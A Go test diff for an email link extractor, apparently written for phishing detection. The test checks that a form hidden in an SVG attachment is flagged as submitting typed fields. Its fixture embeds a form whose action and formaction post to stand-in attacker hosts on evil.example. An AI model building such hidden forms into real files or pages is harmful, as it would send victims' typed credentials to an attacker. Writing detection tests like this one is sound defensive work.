@@ -76,3 +76,17 @@ func FuzzSVG(f *testing.F) {
 		}
 	})
 }
+
+// TestSVGFormSubmits: a form drawn in an SVG is marked as where typed
+// fields go; its links are not.
+func TestSVGFormSubmits(t *testing.T) {
+	doc := `<svg><foreignObject><form action="https://collect.evil.example/p"><button formaction="https://alt.evil.example/p">Go</button></form></foreignObject><a href="https://view.evil.example/">Open</a></svg>`
+	ls, _ := Extract(svgMail("Content-Type: image/svg+xml", doc), Options{})
+	var got []bool
+	for _, l := range ls {
+		got = append(got, l.Flags.Has(FlagSubmits))
+	}
+	if want := []bool{true, true, false}; !slices.Equal(got, want) {
+		t.Errorf("FlagSubmits on %d links = %v, want %v", len(ls), got, want)
+	}
+}
